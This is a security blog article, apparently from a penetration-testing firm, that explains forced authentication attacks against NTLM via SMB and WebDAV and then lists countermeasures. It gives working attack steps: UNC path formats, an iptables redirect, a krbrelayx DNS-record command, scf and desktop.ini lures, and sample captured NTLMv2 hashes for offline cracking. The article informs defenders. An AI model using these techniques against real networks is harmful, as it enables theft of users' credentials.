Forced Authentication - Attacks against NTLM via SMB and WebDAV

Forced Authentication

Attacks against NTLM via SMB and WebDAV

Michael Schneider
by Michael Schneider
on April 21, 2022
time to read: 11 minutes


This is how Forced Authentication works

  • The protocols SMB and WebDAV with NTLM authentication are vulnerable against Forced Authentication attacks
  • The user's password can be calculated from the NTLM challenge response
  • The authentication can be coerced against rogue authentication servers with files that load an icon from a remote path
  • As a countermeasure, NTLM should be completely disabled
  • Long and complex passwords make the attack more difficult

The goal of a forced authentication attack is to obtain credentials by forcing users to automatically send them. This exploits the behaviour of protocols to load resources, establish a connection to a remote system and use the current user’s credentials in the authentication process. Specific manipulated files can be placed on shares, or resources can be embedded in emails or websites to coerce this authentication.

For a forced authentication attack to be successful, several conditions must be met. Firstly, the authentication of the protocol must be structured in such a way that attackers can directly obtain or calculate the password, secondly, it must be possible to force connections and thirdly, the attacker must be able to place an authentication server within the range of the attack target. The SMB and WebDAV protocols in combination with NTLM authentication are particularly effective for this.Challenge Response

In a forced authentication attack, attackers do not directly obtain the password of a user. Both SMB and WebDAV protocols use the NTLM authentication protocol. In the challenge response procedure of NTLM, the client establishes a connection to the server and informs it in the message NEGOTIATE_MESSAGE which NTLM options are supported. The server responds withthe message CHALLENGE_MESSAGE to check the identity of the client. The client in turn answers this challenge with the message AUTHENTICATE_MESSAGE.

The configuration of the NTLM LAN Manager Authentication Level determines which NTLM protocol levels are supported. Ideally, LM and NTLM should be rejected and only NTLMv2 should be used for authentication, protected by NTLMv2 session security. None of the protocol levels can prevent the attack, but the complexity to calculate the password can be increased.

It is possible to calculate a password because a NTLMv2 response is structured as follows:

  1. The server sends the challenge (8-byte block random data)
  2. The client generates the NTHash from the user’s password (based on MD4, 16 bytes).
  3. The username and the name of the server are combined into a string and theNTLMv2 hash is calculated from this using HMAC-MD5 and the NTHash as the key.
  4. A data block called blob is built from various information, including the current timestamp, a client nonce and components of the server CHALLENGE_MESSAGE.
  5. The blob is then concatenated with the server’s challenge and a new value is calculated from it using HMAC-MD5 and the NTLMv2 hash as the key.
  6. This value is concatenated with the blob and this results in the NTLMv2 response

The structure of the NTLMv2 response can be studied in detail in the documentation The NTLM Authentication Protocol and Security Support Provider of the Davenport WebDAV-SMB Gateway project.

Since in a forced authentication attack the server is controlled by attackers, all the information of the challenge response procedure is known, and the client’s response can be used to compute the user’s password. In the event of an attack, the server can send the same challenge value to simplify the calculation of multiple passwords. For example, the challenge 1122334455667788 is used for this purpose.

Authentication Server

Either the tool Responder from Laurent GaffiƩ or the tool ntlmrelayx from the impacket framework can be used as authentication server.

In addition to authentication servers for the protocols HTTP, SMB, MSSQL, FTP and LDAP, Responder also has modules for attacks against the multicast protocols LLMNR, NBT-NS, and MDNS. The hashes are written to a sqlite database as well as to text files and can be cracked directly with hashcat.

The tool ntlmrelayx is mainly known for the various relay attacks against different Windows protocolsand services. Recorded hashes are written to a file and can also be used directly with hashcat.

Both tools can be configured individually and are both excellent as authentication servers for forced authentication attacks.


For the attack, a file is prepared to load a resource from a remote server when the file is opened or displayed in Windows Explorer. In the examples, it is assumed that attackers can write to a share, for example a public folder of a company. The attackers’ authentication server is in the same network as the target systems.

In the most straightforward case, the resource is loaded via SMB. Then the path can contain only an IP address. If an SMB connection cannot be established on port 445/tcp, a fallback to WebDAV takes place. However, a NTLM authentication only occurs if a NetBIOS name has been used and the authenticationserver is located in a trusted zone. If a WebDAV connection on the standard port 80/tcp is also blocked, the port can be adjusted in thepath:

Protocol Path
SMB \\IP-Adresse\share\icon.png
SMB, WebDAV \\NetBIOSName\share\icon.png
WebDAV (different port) \\NetBIOSName@Port\share\icon.png

If a different port is used, either the configuration of the authentication server must be customised or the port must be forwarded:

$ port=8080
$ sudo iptables -t nat -A PREROUTING -p tcp --dport $port -j REDIRECT --to-port 80

If the authentication server does not have a NetBIOS name or DNS record, attackers with the rights of a domain user can create their own record if Windows DNS servers are used. This can be achieved with the tool krbrelayx from Dirk-jan Mollema:

$ python3 krbrelayx/ --zone <zone> -a add -r <name> -t A -d <ip-addr> -u <domain>\\<user> ldaps://<dc-fqdn>$ python3 krbrelayx/ -a add -r "attacker" -t A -d -u\\craig ldaps://

The parameter zone must only be used if the zone does not match the domain. In this command, an A-record attacker is created for the IP address by the user craig.

Various file formats such as lnk, scf, or desktop.ini can be used for this attack. The Metasploit Framework has the auxiliary multidrop to generate suchfiles. A scf file can also be created with a text editor:


If a user now views this file in Windows Explorer, a connection to the attackers’ authentication server is established and the NTLMv2 hash is captured.

[SMB] NTLMv2-SSP Client   :
[SMB] NTLMv2-SSP Username : EXAMPLE\bob
[SMB] NTLMv2-SSP Hash     : bob::EXAMPLE:1122334455667788:A4589A28A82D83A6D381606C4BD1B41A:010100000...

In Responder, it is visible which protocol was used to capture the hash. In this case it is SMB. If a network share is full of folders and therefore the file is not displayed directly, the icon of a folder can also be used. To do this, the file desktop.ini is placed in the respective folder:


In this case, a WebDAV connection to the attackers’ authentication server is established and the NTLMv2 hash is captured.[WebDAV] NTLMv2 Client   :
[WebDAV] NTLMv2 Username : EXAMPLE\bob
[WebDAV] NTLMv2 Hash     : bob::EXAMPLE:1122334455667788:5660BDAF68D6598588B9D5EDDAC52522:010100000...

Attackers can place as many files as they want in different shares and collect hashes over a certain time and then crack them offline later.


There is no single step to prevent all attacks on any network protocol other than removing the protocol completely. Therefore, a forced authentication attack can only be blocked if the protocol NTLM is disabled. However, the deactivation is a lengthy process, and it should be carefully investigated beforehand whether NTLM is still needed in the infrastructure. Ned Pyle from Microsoft has written the article NTLM Blocking and You: Application Analysis and Auditing Methodologies in Windows 7 aboutthe analysis.

The deactivation of the WebClient service avoids the fallback to WebDAV for loading of files over HTTP if SMB is not available. To do this, a group policy can be set to disable the WebClient service. Ned Pyle again has written a helpful article on this subject titled How to Defend Users from Interception Attacks via SMB Client Defense.

The attack can be made more difficult by restrictive segmentation of the network as well as by preventing client-to-client connections. For an attack via WebDAV, however, attackers only need one open port, blocking 80/tcp and 445/tcp is not sufficient. Outgoing connections to the internet via port 445/tcp must not be allowed under any circumstances.

Another method is to use long and complex passwords. This does not prevent the attack itself, but it makes it more difficult to calculate passwords. The use of multi-factor authentication can make it more difficult to use the cracked passwords.


Forced authentication attacks are an efficient instrument for attackers to obtain credentials of other users if they have previously been able to establish a foothold in the network. To defend against such attacks, considerable changes in the configuration of the Windows systems are necessary. The introduction of network segmentation and the isolation of clients are also tools against such attacks. The implementation with a Windows host firewall and the deactivation of the Webclient service areshort- and medium-term measures, while the deactivation of NTLM requires a long analysis before implementation. The increase in security more than compensates for the high effort.

About the Author

Michael Schneider

Michael Schneider has been in IT since 2000. Since 2010 he is focused on information security. He is an expert at penetration testing, hardening and the detection of vulnerabilities in operating systems. He is well-known for a variety of tools written in PowerShell to find, exploit, and mitigate weaknesses. (ORCID 0000-0003-0772-9761)


You want to test the security of your firewall?Our experts will get in contact with you!

Reporting and Documenting

Reporting and Documenting

Michael Schneider

Introduction of CVSS v4.0

Introduction of CVSS v4.0

Michael Schneider

Rogue Device

Rogue Device

Michael Schneider

Windows LAPS

Windows LAPS

Michael Schneider

You want more?

Further articles available here

You need support in sucha project?

Our experts will get in contact with you!

You want more?

Further articles available here